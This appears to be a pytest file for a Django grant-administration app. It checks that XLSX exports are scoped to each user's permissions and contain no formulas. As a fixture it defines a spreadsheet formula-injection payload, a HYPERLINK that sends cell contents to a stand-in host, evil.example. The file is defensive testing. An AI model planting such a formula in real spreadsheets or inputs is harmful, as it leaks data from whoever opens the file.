"""The XLSX exports: real workbooks scoped to the user, and no formula in any cell."""

from __future__ import annotations

import datetime as dt
import io
from decimal import Decimal

import pytest
from django.test import Client
from django.urls import URLResolver, get_resolver, reverse
from openpyxl import load_workbook

from pik.core.roles import Role
from pik.funding import services
from pik.orgs.models import Gemeinde
from tests.funding.factories import step


def test_application_export_is_a_real_workbook_scoped_to_the_user(
    client: Client, draft, actors, member
) -> None:
    step(draft, "submit", actors["gemeinde_a"])
    client.force_login(actors["case_worker_a"])
    response = client.get("/foerderung/antraege/export.xlsx?programme=im&year=2020")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][:3] == ("Aktenzeichen", "Programm", "Förderjahr")
    assert rows[1][0] == "RPS15.2-IM-2020-08115-0001" and rows[1][5] == "eingereicht"
    assert actors["case_worker_a"].last_name in rows[1][10]
    client.force_login(actors["case_worker_b"])  # responsible for Kreis B only
    other = load_workbook(io.BytesIO(client.get("/foerderung/antraege/export.xlsx").content)).active
    assert other.max_row == 1


def test_contingent_export_lists_every_visible_gemeinde(
    client: Client, contingents, member
) -> None:
    client.force_login(member(Role.RPS_HEAD))
    sheet = load_workbook(
        io.BytesIO(client.get("/foerderung/kontingente/im/export.xlsx").content)
    ).active
    rows = list(sheet.iter_rows(values_only=True))
    assert len(rows) == 1 + 6
    assert rows[1][0] == "08115001" and rows[1][3] == 2020 and rows[1][5] == 30


EVIL = '=HYPERLINK("http://evil.example/?d="&B2&C2,"Antrag öffnen")'


@pytest.fixture
def evil_names(im, contingents, actors):  # type: ignore[no-untyped-def]
    """An applicant and a Gemeinde named like formulas, with a submitted application."""

    Gemeinde.objects.filter(ags="08115003").update(name="=1+1")
    applicant = services.applicant_create(
        programme=im, kind="gemeinde", members=[contingents["08115003"]], name=EVIL, actor=None
    )
    application = services.application_create(
        programme=im, applicant=applicant, year=2020, actor=actors["gemeinde_a"]
    )
    services.position_add(
        application=application,
        person_name="-Sara Nouri",
        qualification="university",
        share=Decimal("1.00"),
        start_date=dt.date(2020, 3, 1),
        months=24,
        actor=actors["gemeinde_a"],
    )
    step(application, "submit", actors["gemeinde_a"])


def test_applicant_named_like_a_formula_is_exported_as_text(
    client: Client, evil_names, actors
) -> None:
    client.force_login(actors["head"])
    response = client.get("/foerderung/antraege/export.xlsx")
    sheet = load_workbook(io.BytesIO(response.content)).active
    cell = sheet["D2"]  # Antragsteller
    assert cell.value == EVIL
    assert cell.data_type == "s" and cell.quotePrefix


def _export_routes() -> list[tuple[str, list[str]]]:
    """Every named URL of ours that serves a spreadsheet, from the URL conf."""
    found = []

    def walk(patterns, namespace):  # type: ignore[no-untyped-def]
        for p in patterns:
            if isinstance(p, URLResolver):
                walk(p.url_patterns, p.namespace or namespace)
            elif str(p.pattern).endswith((".xlsx", ".csv")) and p.name:
                found.append((f"{namespace}:{p.name}", list(p.pattern.converters)))

    walk(get_resolver().url_patterns, None)
    return sorted(found)


EXPORT_KWARGS = {"code": "im"}


def test_export_routes_are_found() -> None:
    names = {name for name, _ in _export_routes()}
    assert {"funding:application_export", "funding:contingent_export"} <= names


@pytest.mark.parametrize(("name", "params"), _export_routes())
def test_no_export_contains_a_formula(
    client: Client, evil_names, actors, name: str, params: list[str]
) -> None:
    """Generated from the URL conf: a new export is checked the day it is added."""
    user = actors["head"]
    if name.startswith("casework:"):  # case work's exports: the Kreis coordinator's own data
        from tests.casework.factories import staff
        from tests.network.factories import actor_in

        kreis = Gemeinde.objects.get(ags="08115003").kreis
        actor_in(kreis, name=EVIL, gemeinde="08115003")  # a partner named like a formula
        user = staff(Role.KREIS_COORDINATOR, kreis)
    client.force_login(user)
    response = client.get(reverse(name, kwargs={p: EXPORT_KWARGS[p] for p in params}))
    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(response.content))
    cells = [c for sheet in workbook.worksheets for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells if c.data_type == "s"}
    assert EVIL in texts or "=1+1" in texts  # the injected names are there, as text
